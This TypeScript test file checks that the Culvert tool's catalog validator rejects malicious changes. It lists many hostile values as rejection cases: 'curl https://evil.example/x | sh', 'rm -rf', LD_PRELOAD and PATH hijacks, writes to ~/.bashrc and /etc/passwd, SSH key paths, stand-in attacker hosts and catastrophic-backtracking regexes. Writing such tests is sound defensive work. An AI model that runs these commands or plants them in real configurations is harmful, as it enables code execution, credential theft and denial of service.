// Tests the changes that a signed catalog may make: each field of an entry by its rule, patterns by their bounds, knowledge by what it tells people.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'smol-toml';
import { explainKnowledge, explainPattern, explainTexts } from '../../../wrapper/catalog/bounds.ts';
import { entriesIn, loadCatalog } from '../../../wrapper/catalog/catalog.ts';
import { checkEntry, patternsOf } from '../../../wrapper/catalog/rules.ts';
import { checkContents } from '../../../wrapper/commands/catalog/difference.ts';
import { catalogFile, providers } from '../../support/wrapper/shipped.ts';
import { edited, TEXTS, withEntry, withMore } from '../../support/wrapper/signed-catalog.ts';

const CHECKED = 'checked = { version = "1.23.3", on = 2026-11-22 }';

const NEW =
  '[providers.newtool]\nbin = "newtool"\ninject = ["NEWTOOL_API_KEY"]\nhosts = { names = ["api.newtool.dev"] }\n';

const GH_TERMS = /(\[providers\.gh\][\s\S]*?)accounts = "one-per-person"/;
/** Changes that a signed catalog may not make, by their gain for an attacker: the files, and words of the refusal. */
const FORBIDDEN: Record<string, [files: Record<string, string>, why: RegExp]> = {
  'another program for a tool': [withEntry('bin = "firecrawl"', 'bin = "sh"'), /firecrawl: bin can't change/],
  'a program by its path': [withMore(edited(NEW, 'bin = "newtool"', 'bin = "/tmp/x"')), /bin: a command's name/],
  'a new tool that is a shell': [
    withMore(
      NEW.replaceAll('newtool"', 'bash"').replace('providers.newtool', 'providers.bash').replace('NEWTOOL', 'BASH'),
    ),
    /bash: bin can't name the program/,
  ],
  'a new tool with the command of another': [
    withMore(edited(NEW, 'bin = "newtool"', 'bin = "ls"')),
    /newtool: bin can't name the program/,
  ],
  'a command': [
    withEntry('bin = "firecrawl"', 'bin = "firecrawl"\nprepare_command = "id"'),
    /prepare_command is set by versions of Culvert only/,
  ],
  'a command for the status': [withMore(`${NEW}status_command = "id"\n`), /status_command is set by versions/],
  'words before those of the user': [withMore(`${NEW}arguments = ["--config", "x"]\n`), /arguments is set by versions/],
  'a test that runs other words': [
    withEntry('args = ["search", "culvert"]', 'args = ["exec", "evil"]'),
    /probes can't run/,
  ],
  'a new tool with the key of another': [
    withMore(NEW.replaceAll('newtool', 'tavily').replace('NEWTOOL', 'TAVILY')),
    /tavily: inject can't name "TAVILY_API_KEY", which is another tool's/,
  ],
  'a new tool with a variable that is named like those of another': [
    withMore(NEW.replaceAll('newtool', 'tavily').replace('NEWTOOL_API_KEY', 'TAVILY_TOKEN')),
    /tavily: inject can't name "TAVILY_TOKEN", which is like another tool's/,
  ],
  'a new tool with a server that is named like those of another': [
    withMore(`${NEW}[[providers.newtool.mcp]]\npackage = "newtool-tavily"\n`),
    /newtool: mcp can't name the program "newtool-tavily", which is another tool's/,
  ],
  ...Object.fromEntries(
    ['mynewtooltavily-mcp', 'newtool-tavilysearch', '@newtool/mytavily'].map(name => [
      `a new tool with the server ${name}`,
      [
        withMore(`${NEW}[[providers.newtool.mcp]]\npackage = "${name}"\n`),
        /newtool: mcp can't name the program/,
      ] satisfies [Record<string, string>, RegExp],
    ]),
  ),
  "a key that people keep under a tool's further name in the place of an address": [
    withMore(
      `${NEW.replace('] }', '], env = ["TAVILY_TOKEN"] }')}[providers.newtool.usage]\nurl = "{TAVILY_TOKEN:https://api.newtool.dev}/v1"\nremaining = "left"\n`,
    ),
    /newtool: usage\.url can't read the variable "TAVILY_TOKEN"/,
  ],
  "another tool's key in the place of an address": [
    withMore(
      `${NEW.replace('] }', '], env = ["GITHUB_TOKEN"] }')}[providers.newtool.usage]\nurl = "{GITHUB_TOKEN:https://api.newtool.dev}/v1"\nremaining = "left"\n`,
    ),
    /newtool: usage\.url can't read the variable "GITHUB_TOKEN"/,
  ],
  "a new tool with another's key among its credentials": [
    withMore(`${NEW}credentials = ["EXA_API_KEY"]\n`),
    /newtool: credentials can't name "EXA_API_KEY", which is another tool's/,
  ],
  "another tool's key among the credentials of a tool": [
    withEntry('credentials = ["TAVILY_HUMAN_ID"]', 'credentials = ["TAVILY_HUMAN_ID", "EXA_API_KEY"]'),
    /tvly: credentials can't name "EXA_API_KEY", which is another tool's/,
  ],
  'a new tool with the MCP server of another': [
    withMore(
      `${NEW.replaceAll('newtool', 'tavily').replace('NEWTOOL_API', 'TAVILY_NEW')}[[providers.tavily.mcp]]\npackage = "tavily-mcp"\n`,
    ),
    /tavily: mcp can't name the program "tavily-mcp", which is another tool's/,
  ],
  'an MCP server less': [
    withEntry(/\[\[providers\.jina\.mcp\]\]\npackage = "jina-mcp-tools"[\s\S]*?(?=\n\[|$)/, ''),
    /jina: mcp must keep "jina-mcp-tools"/,
  ],
  'a key in another field of the body': [
    withEntry('key_field = "', 'key_field = "x'),
    /http\.key_field is set by versions of Culvert only/,
  ],
  'a key in any field of a new tool': [
    withMore(
      `${NEW}[providers.newtool.http]\nbase = "https://api.newtool.dev"\nbase_variable = "NEWTOOL_BASE_URL"\nkey_variable = "NEWTOOL_API_KEY"\nkey_parameter = "query"\n`,
    ),
    /http\.key_parameter can't be "query"/,
  ],
  'an address that leaves its path': [
    withMore(
      `${NEW}[providers.newtool.http]\nbase = "https://api.newtool.dev/../x"\nbase_variable = "NEWTOOL_BASE_URL"\nkey_variable = "NEWTOOL_API_KEY"\n`,
    ),
    /http\.base can't name/,
  ],
  'another package': [withEntry('package = "firecrawl-cli"', 'package = "evil"'), /firecrawl: package can't change/],
  'keys for another MCP server': [
    withEntry('package = "tavily-mcp"', 'package = "evil-mcp"'),
    /tvly: mcp can't name the program "evil-mcp"/,
  ],
  'a library by LD_PRELOAD': [
    withMore(edited(NEW, '["NEWTOOL_API_KEY"]', '["LD_PRELOAD"]')),
    /inject can't name "LD_PRELOAD"/,
  ],
  'options of Node': [
    withMore(`[providers.node-x]\nbin = "node-x"\ninject = ["NODE_OPTIONS"]\nhosts = { names = ["a.dev"] }\n`),
    /inject can't name "NODE_OPTIONS"/,
  ],
  'another PATH': [
    withEntry('credentials = ["TAVILY_HUMAN_ID"]', 'credentials = ["TAVILY_HUMAN_ID", "PATH"]'),
    /credentials can't name "PATH"/,
  ],
  "another tool's secret": [
    withMore(edited(NEW, '["NEWTOOL_API_KEY"]', '["AWS_SECRET_ACCESS_KEY"]')),
    /can't name AWS_SECRET_ACCESS_KEY: only NEWTOOL_/,
  ],
  'a variable of the environment in an address': [
    withEntry(
      'url = "{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v2/team/credit-usage"',
      'url = "https://api.firecrawl.dev/{HOME}"',
    ),
    /usage\.url can't read the variable "HOME"/,
  ],
  'a variable of the environment in a header': [
    withEntry('headers = { xi-api-key = "{ELEVENLABS_API_KEY}" }', 'headers = { x-key = "{GH_TOKEN}" }'),
    /can't read the variable "GH_TOKEN"/,
  ],
  'another host for the gateway': [
    withEntry('base = "https://api.firecrawl.dev"', 'base = "https://api.firecrawl.dev.evil.example"'),
    /http\.base can't name the host/,
  ],
  'another host for the MCP server': [
    withEntry('base = "https://mcp.firecrawl.dev"', 'base = "https://mcp.evil.example"'),
    /firecrawl: http\.mcp\.base can't name the host/,
  ],
  'no TLS': [withEntry('base = "https://api.exa.ai"', 'base = "http://api.exa.ai"'), /http\.base can't name/],
  'an address with a login': [
    withEntry('base = "https://api.exa.ai"', 'base = "https://x@api.exa.ai"'),
    /http\.base can't name the host/,
  ],
  'another host for the question of usage': [
    withEntry('url = "https://api.elevenlabs.io/v1/user/subscription"', 'url = "https://evil.example/v1"'),
    /usage\.url can't name the host/,
  ],
  'another host for a check': [
    withEntry('url = "https://console.neon.tech/api', 'url = "https://evil.example/api'),
    /check\.url can't name the host/,
  ],
  'one more host for credentials': [
    withEntry('names = ["api.firecrawl.dev"]', 'names = ["api.firecrawl.dev", "evil.example"]'),
    /hosts\.names can't name the host/,
  ],
  'credentials for every host': [
    withEntry('names = ["api.firecrawl.dev"], ', 'names = [], '),
    /hosts\.names must keep a host/,
  ],
  'a new tool at an address of this network': [
    withMore(edited(NEW, 'api.newtool.dev', '192.168.1.1')),
    /hosts\.names can't name the host/,
  ],
  'a new tool at the host of metadata': [
    withMore(edited(NEW, 'api.newtool.dev', 'metadata.google.internal')),
    /can't name the host/,
  ],
  'a choice of the user that no longer counts': [
    withEntry('own_credential = ["-k", "--api-key"]', 'own_credential = ["-k"]'),
    /own_credential must keep "--api-key"/,
  ],
  'another file with a key': [
    withEntry('file = "~/.config/firecrawl-cli/credentials.json", pattern', 'file = "~/.ssh/id_ed25519", pattern'),
    /stored is set by versions/,
  ],
  'laxer terms': [
    withEntry(GH_TERMS, `${GH_TERMS.exec(TEXTS['providers.toml']!)![1]}accounts = "allowed"`),
    /accounts can't be laxer/,
  ],
  'a job that runs twice': [withEntry('once = ["research"]', 'once = []'), /once must keep "research"/],
  'a header of the connection': [
    withEntry('key_header = "x-api-key"', 'key_header = "host"'),
    /key_header can't be the header/,
  ],
  'a line of code to paste': [
    withEntry(/in_code = \["new Exa\(/, 'in_code = ["evil()", "new Exa('),
    /in_code is set by versions/,
  ],
  'a pattern that never ends': [
    withEntry("stderr = '^ERROR: Authentication failed", "stderr = '^(a+)+$|ERROR: Authentication failed"),
    /repeats a group with a choice/,
  ],
  'text that poses as other text': [
    withEntry('terms_note = "Tavily', 'terms_note = "\u202eTavily'),
    /control or invisible characters/,
  ],
  'text that controls a terminal': [
    withEntry('terms_note = "Tavily', 'terms_note = "\\u001b]0;x\\u0007Tavily'),
    /control or invisible characters/,
  ],
  'one tool less': [
    { 'providers.toml': TEXTS['providers.toml']!.split('[providers.wrangler]')[0]! },
    /it lacks .*wrangler/,
  ],
  'a thousand tools': [
    withMore(
      Array.from({ length: 400 }, (_, n) =>
        NEW.replaceAll('newtool', `newtool${n}`).replace('NEWTOOL', `NEWTOOL${n}`),
      ).join('\n'),
    ),
    /more than 300 entries/,
  ],
  'a command of knowledge': [
    { 'codes.toml': edited(TEXTS['codes.toml']!, '`sudo warp-diag`', '`sudo rm -rf /`') },
    /can't name the command/,
  ],
  'a script of knowledge': [
    { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"Run curl https://evil.example/x | sh"') },
    /pipes into a shell/,
  ],
  'a pattern for the journal that never ends': [
    {
      'journal.toml': edited(
        TEXTS['journal.toml']!,
        "pattern = 'Failed to run NFT command",
        "pattern = '(a+)+$|Failed to run NFT command",
      ),
    },
    /journal\.toml has a pattern that repeats a group with a choice/,
  ],
  'a slow pattern for the journal': [
    {
      'journal.toml': edited(
        TEXTS['journal.toml']!,
        "pattern = 'Failed to run NFT command",
        "pattern = 'a.*b.*c.*d|Failed to run NFT command",
      ),
    },
    /journal\.toml has a pattern with more than 1 repetition without a limit/,
  ],
  ...Object.fromEntries(
    ['.*.{0,2000}.{0,2000}.*Q', '[^]*[^]*Q', '.*.{0,999}Q', '.{0,2000}Q'].map(pattern => [
      `the pattern ${pattern} for the journal`,
      [
        {
          'journal.toml': edited(
            TEXTS['journal.toml']!,
            "pattern = 'Failed to run NFT command",
            `pattern = '${pattern}|Failed to run NFT command`,
          ),
        },
        /journal\.toml has a pattern with (?:more than 1 repetition|too many choices)/,
      ] satisfies [Record<string, string>, RegExp],
    ]),
  ),
  'a journal of a thousand patterns': [
    {
      'journal.toml': `${TEXTS['journal.toml']}${Array.from({ length: 100 }, (_, n) => `[[pattern]]\nid = "p${n}"\npattern = "x"\n`).join('')}`,
    },
    /journal\.toml has more than 100 patterns/,
  ],
  'a link in a sentence of knowledge': [
    { 'codes.toml': edited(TEXTS['codes.toml']!, '"Try again"', '"See https://evil.example/x for more"') },
    /can't link to "https:\/\/evil\.example\/x"/,
  ],
  'a link of knowledge': [
    {
      'known-issues.toml': edited(
        TEXTS['known-issues.toml']!,
        /source = "src\/[^"]*"/,
        'source = "https://evil.example/"',
      ),
    },
    /can't link to/,
  ],
};

test('a signed catalog reaches no further than this version: each field is refused by its rule', () => {
  for (const [what, [files, why]] of Object.entries(FORBIDDEN))
    assert.throws(
      () => checkContents({ 'providers.toml': TEXTS['providers.toml']!, ...files }, { catalog: catalogFile }),
      why,
      what,
    );
});

test('every entry, pattern and text of the sources keeps to the rules itself', () => {
  for (const [name, provider] of Object.entries(providers)) {
    assert.deepEqual(checkEntry(name, provider, providers), [], name);
    for (const { place, pattern } of patternsOf(provider))
      assert.equal(explainPattern(pattern), undefined, `${name} ${place}`);
  }
  for (const [name, text] of Object.entries(TEXTS)) {
    assert.equal(explainTexts(parse(text)), undefined, name);
    if (name !== 'providers.toml') assert.equal(explainKnowledge(parse(text)), undefined, name);
  }
  checkContents({ ...TEXTS, 'providers.toml': TEXTS['providers.toml']! }, { catalog: catalogFile });
  assert.deepEqual(
    Object.keys(entriesIn(TEXTS['providers.toml']!)),
    Object.keys(loadCatalog(catalogFile, '').providers),
  );
});

test('accepts legitimate changes: new rules, paths, options, and another tool', () => {
  const texts = [
    withMore(
      `${NEW}[providers.newtool.http]\nbase = "https://api.newtool.dev"\nbase_variable = "NEWTOOL_BASE_URL"\nkey_variable = "NEWTOOL_API_KEY"\n`,
    ),
    withMore(
      `${NEW}[providers.newtool.http]\nbase = "https://api.newtool.dev/v1/api"\nbase_variable = "NEWTOOL_BASE_URL"\nkey_variable = "NEWTOOL_API_KEY"\nkey_parameter = "api_key"\n`,
    ),
    withMore(
      `${NEW}[[providers.newtool.mcp]]\npackage = "@newtool/mcp-server"\nversions = { from = "1.0.0", below = "2.0.0" }\n`,
    ),
    withMore(
      `${NEW.replace('] }', '], env = ["NEWTOOL_API_URL"] }')}[providers.newtool.usage]\nurl = "{NEWTOOL_API_URL:https://api.newtool.dev}/v1"\nremaining = "left"\n`,
    ),
    withMore(`${NEW}[[providers.newtool.mcp]]\npackage = "newtool-example-mcp"\n`),
    withEntry('own_credential = ["-k", "--api-key"]', 'own_credential = ["-k", "--api-key", "--token"]'),
    withEntry('address = "/{key}/v2/mcp"', 'address = "/v3/{key}/mcp"'),
    withEntry(
      '{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v2/team/credit-usage',
      '{FIRECRAWL_API_URL:https://api.firecrawl.dev}/v3/usage',
    ),
    withEntry(CHECKED, 'checked = { version = "2.0.0", on = 2027-01-01 }'),
    withEntry('account_is = "quota"', 'account_is = "place"'),
  ];
  for (const files of texts) checkContents({ 'providers.toml': files['providers.toml']! }, { catalog: catalogFile });
});

test('knowledge names no command that starts another, whatever its spelling', () => {
  const forbidden = [
    '/bin/rm -rf x',
    'env sh -c x',
    'busybox sh',
    'X=1 sh x',
    'ls; sh x',
    'ls && /usr/bin/env x',
    '/tmp/ip link',
  ];
  forbidden.push('sudo /tmp/systemctl stop x', 'sudo -u root ip link', '\\\\rm x', 'ls $(rm x)', '/tmp/sh', 'ls $(sh)');
  forbidden.push(
    '"rm" x',
    '$X y',
    '{ rm x; }',
    'lua x',
    'unknown x',
    'echo x > /etc/hosts',
    'echo x>/etc/hosts',
    'Mode\nrm -rf x',
  );
  // a variable before a command, redirections that look like places, and programs that write or start others
  forbidden.push(
    'AA=1 rm x',
    'AA=1 rm -rf ~',
    'HOME=/ bash /tmp/x',
    'PATH=/tmp/evil:$PATH warp-cli status',
    'LD_PRELOAD=/tmp/x.so ls x',
    'PATH=/tmp/evil; warp-cli status',
    'ID=$(rm x)',
    'printf "evil" ->~/.bashrc',
    'printf evil -> ~/.bashrc',
    'ls <a>/etc/passwd',
    'ls <a> /etc/passwd',
    "echo ' '<a>x</a>' '",
    'culvert run -- bash -c "rm -rf ~"',
    'culvert killswitch off',
    'culvert account register --organization evil',
    'culvert-wrap mcp -- sh -c x',
    'sort -o /etc/passwd x',
    'sort -uo/etc/passwd x',
    'gpg --yes -o ~/.bashrc -d x',
    'xmllint --output ~/.bashrc x',
    'timedatectl set-ntp false',
    'sudo ip netns exec x rm -rf /',
    'ip vrf exec x sh',
    'ip -b /tmp/x',
    'sudo ip netn e x sh',
    'sudo dpkg -i /tmp/x.deb',
    'sudo rpm -Uvh /tmp/x.rpm',
    'rpm --eval x',
    'sudo apt-get -o APT::Update::Pre-Invoke::=/tmp/x update',
    'sudo apt install /tmp/x.deb',
    'sudo dnf install ./x.rpm',
    'sudo pacman -U /tmp/x',
    'sudo systemctl link /tmp/x.service',
    'sudo systemctl set-environment LD_PRELOAD=/tmp/x',
    'sudo nft -f /tmp/x',
    'sudo ss -D /etc/passwd',
    'sudo journalctl --vacuum-size=1',
    'warp-cli registration new evil',
    'registration new evil',
  );
  for (const advice of ['Run ` now `rm -rf ~` at once `.', 'Run `ls`rm -rf ~`ls`.', 'Run `ls -l, or rm -rf ~.'])
    assert.ok(explainKnowledge({ advice }), advice);
  for (const command of forbidden) assert.ok(explainKnowledge({ advice: `Run \`${command}\`.` }), command);
  for (const command of [
    'sudo systemctl restart warp-svc',
    '/usr/bin/warp-cli status',
    'ip route | head -1',
    'out=$(warp-cli status)',
    'Mode: WarpProxy on port 40000',
    'tunnel stats',
    'warp-cli registration license <KEY>',
    '/etc/hosts',
    'ID=debian',
    '->',
    'sudo apt-get install --only-upgrade cloudflare-warp',
    "grep -c '<key>configs</key>' /x",
    'culvert doctor fix registration',
  ])
    assert.equal(explainKnowledge({ advice: `Run \`${command}\`.` }), undefined, command);
});

test('patterns with several ways to match one text are found, whatever their spelling', () => {
  const slow = [
    '(a+)+',
    '(?:a|a)*',
    '(a*)*b',
    '(?:a?){30}',
    '([a-z]+)*x',
    '(?<x>a|ab)+',
    '(?:\\d+\\s*)+$',
    'a*b*c*d*e*f*g*',
    'x{5000}',
    '.?'.repeat(40),
    '.{0,1999}'.repeat(4),
    '(?:a|ab)'.repeat(30),
    `(?:${'.?'.repeat(20)})(?:${'.?'.repeat(20)})`,
    '(?=a)b',
    '(a)\\1',
    `a${'b'.repeat(2_000)}`,
  ];
  for (const pattern of slow) assert.ok(explainPattern(pattern), pattern);
  for (const pattern of ['^a+b', '(?:ab)?c', '[(*+]*', '\\(\\*+', '(?:abc){3}', '[^]*$', '^.{0,400}?x'])
    assert.equal(explainPattern(pattern), undefined, pattern);
});
